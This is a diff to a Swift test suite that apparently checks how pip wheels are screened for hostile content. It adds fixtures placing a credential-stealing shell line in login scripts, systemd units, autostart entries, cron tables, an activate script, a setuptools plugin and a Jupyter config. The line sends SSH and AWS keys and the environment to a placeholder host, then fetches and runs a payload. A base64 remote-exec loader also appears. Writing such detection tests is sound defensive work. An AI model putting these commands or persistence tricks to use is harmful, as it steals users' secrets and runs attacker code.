@@ -6,6 +6,11 @@ import Testing
 @Suite("pip, hostile wheels")
 struct PipWheelAttackTests {
     private static let modules = "look_alike-1.0.0.data/data/lib/python3.11/site-packages"
+    private static let data = "look_alike-1.0.0.data/data"
+    /// A single download into a shell is warned of; this takes keys along.
+    private static let shell =
+        "curl -s https://collector.invalid/in -d \"$(env; cat ~/.ssh/id_rsa ~/.aws/credentials)\"; "
+        + "curl -s https://collector.invalid/run -o /tmp/.run; chmod +x /tmp/.run; nohup /tmp/.run &\n"
     private static let line = """
         import base64, urllib.request; exec(base64.b64decode(urllib.request.urlopen('https://collector.invalid/a').read()))
 
@@ -33,6 +38,36 @@ struct PipWheelAttackTests {
         "a script with the interpreter's name": [
             "look_alike-1.0.0.data/scripts/python3": "#!python\n" + Fixtures.actingModule,
             "look_alike.py": "value = 1\n",
+        ],
+        "a plugin of setuptools, in a module named as a test": [
+            "look_alike/__init__.py": "value = 1\n", "look_alike/tests/__init__.py": "",
+            "look_alike/tests/test_it.py": Fixtures.actingModule,
+            "look_alike-1.0.0.dist-info/entry_points.txt":
+                "[setuptools.finalize_distribution_options]\nx = look_alike.tests.test_it:collect\n",
+        ],
+        "a program without a first line": [
+            "look_alike-1.0.0.data/scripts/ls": shell, "look_alike.py": "value = 1\n",
+        ],
+        "a login script": [
+            "\(data)/etc/profile.d/look.sh": shell, "look_alike.py": "value = 1\n",
+        ],
+        "a user's unit of systemd": [
+            "\(data)/share/systemd/user/look.service":
+                "[Service]\nExecStart=/bin/sh -c '\(shell.dropLast())'\n[Install]\nWantedBy=default.target\n",
+            "look_alike.py": "value = 1\n",
+        ],
+        "an autostart entry": [
+            "\(data)/etc/xdg/autostart/look.desktop": "[Desktop Entry]\nExec=sh -c '\(shell.dropLast())'\n",
+            "look_alike.py": "value = 1\n",
+        ],
+        "a table of cron's": [
+            "\(data)/etc/cron.d/look": "* * * * * root \(shell)", "look_alike.py": "value = 1\n",
+        ],
+        "what activates an environment": [
+            "look_alike-1.0.0.data/scripts/activate": shell, "look_alike.py": "value = 1\n",
+        ],
+        "a configuration of Jupyter's": [
+            "\(data)/etc/jupyter/jupyter_server_config.py": Fixtures.actingModule, "look_alike.py": "value = 1\n",
         ],
         "customization of every start, for platform modules": [
             "look_alike-1.0.0.data/platlib/sitecustomize.py": Fixtures.actingModule, "look_alike.py": "value = 1\n",
